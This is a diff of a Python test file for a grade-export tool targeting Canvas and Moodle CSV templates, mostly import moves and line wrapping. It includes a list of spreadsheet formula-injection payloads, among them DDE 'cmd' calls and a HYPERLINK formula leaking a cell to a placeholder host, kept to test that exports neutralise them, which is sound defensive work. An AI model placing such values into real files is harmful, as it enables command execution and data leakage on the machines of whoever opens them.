@@ -11,7 +11,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cvgrade.export import ExportError, Mark, export, neutral, read_marks, write_table
+from cvgrade.export import ExportError, Mark, export, read_marks
+from cvgrade.sheets import neutral, write_table
 
 SIGNS = ("=", "+", "-", "@", "\t", "\r")
 CLASS = [
@@ -28,7 +29,8 @@ CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,Warm up (9),mp1 face mas
 吳琳,333,s3,wu,A,3,,77
 "Student, Test",999,,,A,,,0
 """
-MOODLE = """Identifier,Full name,Email address,Status,Grade,Maximum grade,Grade can be changed,Last modified (submission),Last modified (grade),Feedback comments
+MOODLE = """Identifier,Full name,Email address,Status,Grade,Maximum grade,Grade can be changed,\
+Last modified (submission),Last modified (grade),Feedback comments
 Participant 333,吳琳,lin@example.edu,Submitted,,"8,00",Yes,"Monday, 2 March 2026, 9:00 AM",-,
 Participant 12345,Jane Doe,jane@example.edu,Submitted,,"8,00",Yes,-,-,
 Participant 7,Nobody,no@example.edu,No submission,,"8,00",Yes,-,-,
@@ -99,7 +101,7 @@ def test_moodle_without_a_worksheet_has_the_columns_that_its_import_asks_for():
 def test_a_localised_worksheet_needs_the_columns_name(tmp_path):
     template = tmp_path / "moodle.csv"
     template.write_text("Kennung,Name,Bewertung\nTeilnehmer/in 12345,Jane Doe,\n", encoding="utf-8")
-    with pytest.raises(ExportError, match="no column 'Grade'.*'Bewertung'"):
+    with pytest.raises(ExportError, match=r"no column 'Grade'.*'Bewertung'"):
         export("mp1", CLASS, "moodle", template=template)
     done = export("mp1", CLASS, "moodle", template=template, column="Bewertung")
     assert rows(done.text)[1] == ["Teilnehmer/in 12345", "Jane Doe", "7.5"]
@@ -154,11 +156,12 @@ def test_a_template_that_is_not_the_systems_is_refused(tmp_path, template, to, m
     assert not (tmp_path / "out.csv").exists()
 
 
-# Formulas -----------------------------------------------------------------------------------------------------
+# Formulas -----------------------------------------------------------------------------------------
 
 ATTACKS = [
     "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "\ufeff=1+1", '=HYPERLINK("http://x/?"&A1,"ok")', "|calc", "%0A=1",
+    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "\ufeff=1+1", '=HYPERLINK("http://x/?"&A1,"ok")',
+    "|calc", "%0A=1",
     "a;=1+1", "x\r\n=1+1", '",=1+1', "'=1+1",
 ]  # fmt: skip
 
@@ -192,8 +195,8 @@ def test_a_template_with_any_names_comes_back_whole(name):
     name = name.replace("\0", "").encode("utf-8", "replace").decode()
     with tempfile.TemporaryDirectory() as folder:
         path = Path(folder, "t.csv")
-        path.write_text(write_table([["Student", "ID", "Section", "mp1 (1)"], [name, "5", name, ""]]), encoding="utf-8",
-                        newline="")  # fmt: skip
+        table = write_table([["Student", "ID", "Section", "mp1 (1)"], [name, "5", name, ""]])
+        path.write_text(table, encoding="utf-8", newline="")
         done = export("mp1", [Mark("a_5", 3, 8)], "canvas", template=path)
     row = rows(done.text)[-1]
     assert row[1] == "5"
@@ -211,7 +214,7 @@ def test_a_workbook_read_back_has_the_same_cells(tmp_path):
     assert [[value or "" for value in row] for row in back.iter_rows(values_only=True)] == table
 
 
-# The gradebook -------------------------------------------------------------------------------------------------
+# The gradebook ------------------------------------------------------------------------------------
 
 
 def test_marks_come_from_nbgraders_gradebook(tmp_path, monkeypatch):
